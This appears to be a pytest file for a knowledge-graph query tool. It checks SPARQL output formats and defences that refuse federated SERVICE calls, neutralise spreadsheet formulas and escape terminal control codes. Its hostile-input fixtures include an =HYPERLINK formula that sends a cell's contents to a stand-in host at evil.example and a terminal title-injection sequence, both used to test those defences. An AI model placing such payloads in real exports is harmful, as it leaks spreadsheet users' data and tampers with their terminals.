import csv
import io
import json
import time

import pytest
from rdflib import RDFS

import kg
from kg.query import check_service, format_results, named_queries

from .conftest import HYPERLINK, run_kg
from .serve.conftest import Listener


def test_every_named_query_runs_on_the_seed_graph(seed_store):
    required = {
        "operations",
        "operation-quantities",
        "conflicting-claims",
        "actor-actions",
        "timeline",
        "claims-per-outlet",
    }
    assert required <= set(named_queries())
    for name in named_queries():
        results = kg.query(name=name, store=seed_store)
        assert len(results) > 0, name


def test_conflicting_claims_lists_47_and_43_with_outlets(seed_store):
    records = kg.query(name="conflicting-claims", store=seed_store).records()
    january = {(str(r["quantity"]), str(r["outletLabel"])) for r in records if "January 2019" in str(r["topicLabel"])}
    assert ("43 Kazakhs", "The Defense Post") in january
    assert ("47 citizens of Kazakhstan", "Agence France-Presse") in january


def test_operations_query_finds_who_carried_out_zhusan(seed_store):
    records = kg.query(name="operations", store=seed_store).records()
    found = {
        (str(r["actorLabel"]), str(r["role"]))
        for r in records
        if str(r["operationLabel"]).startswith("Operation Zhusan, January")
    }
    assert ("Nursultan Nazarbayev", "carriedOut") in found


def test_invalid_sparql_is_a_one_line_error(seed_store):
    with pytest.raises(kg.KGError) as info:
        kg.query("SELECT ?x WHERE { ?x ?y }", store=seed_store)
    assert str(info.value).startswith("E300 invalid SPARQL")
    assert "\n" not in str(info.value)


def test_unknown_named_query_lists_the_available_ones(seed_store):
    with pytest.raises(kg.KGError, match=r"E301.*conflicting-claims"):
        kg.query(name="conflicts", store=seed_store)


def test_csv_sparql_tsv_and_sparql_json_outputs(seed_store):
    results = kg.query("SELECT ?label WHERE { id:tajikistan rdfs:label ?label }", store=seed_store)
    assert list(csv.reader(io.StringIO(format_results(results, "csv")))) == [["label"], ["Tajikistan"]]
    assert format_results(results, "sparql-tsv") == '?label\n"Tajikistan"\n'
    assert json.loads(format_results(results, "sparql-json"))["results"]["bindings"] == [
        {"label": {"type": "literal", "value": "Tajikistan"}}
    ]
    table = format_results(results, "table")
    assert table.splitlines()[0] == "label" and table.splitlines()[2] == "Tajikistan"


def test_construct_is_turtle_and_ask_is_a_boolean(seed_store):
    graph = kg.query(
        "CONSTRUCT { id:tajikistan rdfs:label ?l } WHERE { id:tajikistan rdfs:label ?l }", store=seed_store
    )
    assert '"Tajikistan"' in format_results(graph)
    assert format_results(kg.query("ASK { id:tokayev a kg:Person }", store=seed_store)) == "true\n"


# --- federated queries (SERVICE) -------------------------------------------------------------------


@pytest.fixture
def listener():
    """A loopback port that records what reaches it."""
    running = Listener()
    yield running
    running.close()


@pytest.mark.parametrize(
    "service",
    ["SERVICE <{url}>", "SERVICE SILENT <{url}>", "SERVICE\r<{url}>"],
    ids=["service", "silent", "after-a-carriage-return"],
)
def test_a_query_calling_service_is_refused_and_reaches_nothing(service, listener, seed_store, monkeypatch):
    monkeypatch.delenv("KG_ALLOW_SERVICE", raising=False)
    sparql = f"SELECT * WHERE {{ {service.format(url=listener.url)} {{ ?s ?p ?o }} }}"
    started = time.monotonic()
    with pytest.raises(kg.KGError) as error:
        kg.query(sparql, store=seed_store)
    assert time.monotonic() - started < 5
    assert error.value.message == (
        f"E930 SERVICE <{listener.url}> is refused: federated queries are off; "
        "set KG_ALLOW_SERVICE=HOST[:PORT] (comma-separated) to allow one"
    )
    time.sleep(0.3)
    assert listener.connections == []


def test_service_hidden_by_a_comment_or_a_string_is_found_and_one_in_them_is_no_call(listener, seed_store):
    hidden = f"SELECT * WHERE {{ # a comment\rSERVICE <{listener.url}> {{ ?s ?p ?o }}\n}}"
    with pytest.raises(kg.KGError, match=r"^E930 SERVICE <"):
        kg.query(hidden, store=seed_store)
    quoted = 'SELECT ?service WHERE { BIND("SERVICE <http://127.0.0.1:9/>" AS ?service) } # SERVICE <x>'
    assert [str(row[0]) for row in kg.query(quoted, store=seed_store).rows] == ["SERVICE <http://127.0.0.1:9/>"]
    assert listener.connections == []


def test_an_allowed_service_host_is_called(listener, seed_store, monkeypatch):
    monkeypatch.setenv("KG_ALLOW_SERVICE", f"example.org, 127.0.0.1:{listener.port}")
    other = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port + 1}/> {{ ?s ?p ?o }} }}"
    with pytest.raises(kg.KGError) as error:
        kg.query(other, store=seed_store)
    assert error.value.message.startswith(
        f"E930 SERVICE <http://127.0.0.1:{listener.port + 1}/> is refused: 127.0.0.1:{listener.port + 1} "
        f"is not an allowed host (example.org, 127.0.0.1:{listener.port})"
    )
    with pytest.raises(kg.KGError):  # the listener answers nothing: the SERVICE call fails, but it was made
        kg.query(f"SELECT * WHERE {{ SERVICE <{listener.url}> {{ ?s ?p ?o }} }}", store=seed_store)
    assert len(listener.connections) == 1 and listener.connections[0].startswith(b"POST /sparql")


def test_check_service_reads_updates_prefixes_and_base():
    refused = [
        "INSERT { ?s ?p ?o } WHERE { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
        "PREFIX ex: <http://127.0.0.1:9/> SELECT * WHERE { SERVICE ex:sparql { ?s ?p ?o } }",
        "BASE <http://127.0.0.1:9/> SELECT * WHERE { SERVICE <sparql> { ?s ?p ?o } }",
        "SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } }",
    ]
    for sparql in refused:
        with pytest.raises(kg.KGError, match=r"^E930 SERVICE "):
            check_service(sparql, allowed=["example.org"])
    check_service("PREFIX ex: <http://example.org/> ASK { SERVICE ex:sparql { ?s ?p ?o } }", allowed=["example.org"])
    with pytest.raises(kg.KGError) as error:  # \u escapes are read differently by rdflib and Oxigraph
        check_service(
            'ASK { BIND("\\u0022" AS ?x) SERVICE <http://127.0.0.1:9/> {} BIND("\\u0022" AS ?y) }', allowed=()
        )
    assert error.value.code == "E931"
    with pytest.raises(kg.KGError) as error:
        check_service("ASK {}", allowed=["http://example.org/sparql"])
    assert error.value.message == (
        "E914 --allow-service must be HOST or HOST:PORT ([::1]:PORT for IPv6), not 'http://example.org/sparql'"
    )


# --- output a person opens (issue 13) ---------------------------------------------------------------------

SPEAKER = "SELECT ?label ?quote ?start WHERE { ?c prov:wasAttributedTo/rdfs:label ?label ; kg:evidence/oa:hasSelector ?q, ?p . ?q oa:exact ?quote . ?p oa:start ?start . FILTER(STRSTARTS(?quote, '=')) }"  # fmt: skip


def run_query(store, *args):
    result = run_kg("query", *args, "--store", store)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_query_csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_front(hostile_store):
    rows = list(csv.reader(io.StringIO(run_query(hostile_store, SPEAKER, "--format", "csv"))))
    quote = HYPERLINK + " On April 30, Tajikistan repatriated 84 minors from Iraq"
    assert rows == [["label", "quote", "start"], ["'" + HYPERLINK, "'" + quote, "33"]]


def test_query_sparql_tsv_literals_that_a_spreadsheet_would_run_get_a_quote_inside_their_quotes(hostile_store):
    lines = run_query(hostile_store, SPEAKER, "--format", "sparql-tsv").splitlines()
    label, quote, start = lines[1].split("\t")
    assert label == '"\'=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"'
    assert quote == label[:-1] + ' On April 30, Tajikistan repatriated 84 minors from Iraq"'
    assert start == '"33"^^<http://www.w3.org/2001/XMLSchema#integer>'


def test_query_sparql_json_keeps_the_text_exact(hostile_store):
    bindings = json.loads(run_query(hostile_store, SPEAKER, "--format", "sparql-json"))["results"]["bindings"]
    assert bindings[0]["label"]["value"] == HYPERLINK


def test_negative_numbers_in_query_csv_stay_numbers(hostile_store):
    rows = list(csv.reader(io.StringIO(run_query(hostile_store, "SELECT ?n ?x WHERE { VALUES (?n ?x) { (-3 -0.5) } }", "--format", "csv"))))  # fmt: skip
    assert rows == [["n", "x"], ["-3", "-0.5"]]


def test_control_characters_in_a_title_are_escaped_in_the_table(hostile_store):
    table = run_query(hostile_store, "SELECT ?title WHERE { ?a schema:headline ?title } ORDER BY ?title")
    assert table.splitlines()[2:4] == [
        "Children return to Tajikistan",
        "Tajikistan brings children home\\x1b]0;pwned\\x07",
    ]
    assert "\x1b" not in table and "\x07" not in table


# --- formats for the analyst's tools (issue 17) --------------------------------------------------------

MIXED = """SELECT ?who ?n ?x ?note ?missing WHERE {
  VALUES (?who ?n ?x ?note) { (id:tokayev 3 0.5 "a, b\\tc \\"d\\"") (id:rahmon -2 1e3 "plain") }
  OPTIONAL { ?who kg:noSuchProperty ?missing }
} ORDER BY ?n"""
PLAIN = [
    ["who", "n", "x", "note", "missing"],
    ["https://kg.example.org/id/rahmon", "-2", "1000.0", "plain", ""],
    ["https://kg.example.org/id/tokayev", "3", "0.5", 'a, b\tc "d"', ""],
]


def test_csv_and_tsv_are_plain_values_that_the_csv_module_reads_back(seed_store):
    results = kg.query(MIXED, store=seed_store)
    assert list(csv.reader(io.StringIO(format_results(results, "csv")))) == PLAIN
    assert list(csv.reader(io.StringIO(format_results(results, "tsv")), delimiter="\t")) == PLAIN


def test_csv_tsv_json_and_jsonl_round_trip_through_pandas(seed_store):
    pd = pytest.importorskip("pandas")
    results = kg.query(MIXED, store=seed_store)
    frames = {
        "csv": pd.read_csv(io.StringIO(format_results(results, "csv"))),
        "tsv": pd.read_csv(io.StringIO(format_results(results, "tsv")), sep="\t"),
        "json": pd.DataFrame(json.loads(format_results(results, "json"))),
        "jsonl": pd.read_json(io.StringIO(format_results(results, "jsonl")), lines=True),
    }
    for format, frame in frames.items():
        assert list(frame.columns) == ["who", "n", "x", "note", "missing"], format
        assert frame["n"].tolist() == [-2, 3], format
        assert frame["x"].tolist() == [1000.0, 0.5], format
        assert frame["note"].tolist() == ["plain", 'a, b\tc "d"'], format
        assert frame["missing"].isna().all(), format


def test_json_is_a_list_of_records_with_numbers_and_nulls(seed_store):
    records = json.loads(format_results(kg.query(MIXED, store=seed_store), "json"))
    assert records[0] == {"who": "https://kg.example.org/id/rahmon", "n": -2, "x": 1000.0, "note": "plain", "missing": None}  # fmt: skip


def test_to_dataframe_has_one_column_per_select_variable(seed_store):
    pytest.importorskip("pandas")
    frame = kg.query(MIXED, store=seed_store).to_dataframe()
    assert list(frame.columns) == ["who", "n", "x", "note", "missing"]
    assert frame["n"].tolist() == [-2, 3] and frame["x"].tolist() == [1000.0, 0.5]
    named = kg.query(name="conflicting-claims", store=seed_store)
    assert list(named.to_dataframe().columns) == named.variables
    assert "outlets_agreeing" in named.variables


def test_construct_as_csv_is_a_table_of_triples(seed_store):
    graph = kg.query(
        "CONSTRUCT { id:tajikistan rdfs:label ?l } WHERE { id:tajikistan rdfs:label ?l }", store=seed_store
    )
    rows = list(csv.reader(io.StringIO(format_results(graph, "csv"))))
    assert rows == [["s", "p", "o"], ["https://kg.example.org/id/tajikistan", str(RDFS.label), "Tajikistan"]]
    assert list(graph.to_dataframe().columns) == ["s", "p", "o"]


def test_an_unknown_prefix_is_one_line_naming_it(seed_store):
    with pytest.raises(kg.KGError) as error:
        kg.query("SELECT * WHERE {\n  ?s a foo:Bar }", store=seed_store)
    assert error.value.message.startswith("E310 unknown prefix 'foo' at 2:")
    assert "\n" not in error.value.message and "\\u{" not in error.value.message


def test_the_frames_have_the_export_columns(seed_store):
    pytest.importorskip("pandas")
    from kg.export import ACTOR_COLUMNS, CLAIM_COLUMNS

    claims = kg.claims_frame(seed_store)
    assert list(claims.columns) == list(CLAIM_COLUMNS) and len(claims) == len(kg.read_claims(seed_store))
    actors = kg.actors_frame(seed_store)
    assert list(actors.columns) == list(ACTOR_COLUMNS) and "Kassym-Jomart Tokayev" in set(actors["label"])
    assert set(kg.entities_frame(seed_store, type="Country")["label"]) >= {"Kazakhstan", "Tajikistan"}


def test_dataset_is_an_rdflib_dataset_over_the_store(seed_store):
    from rdflib import Dataset, URIRef

    ds = kg.dataset(seed_store)
    assert isinstance(ds, Dataset)
    tokayev = URIRef("https://kg.example.org/id/tokayev")
    assert "Kassym-Jomart Tokayev" in {str(o) for o in ds.objects(tokayev, RDFS.label)}
    answer = ds.query("ASK { GRAPH ?g { <https://kg.example.org/id/tokayev> a ?type } }")
    assert answer.askAnswer is True
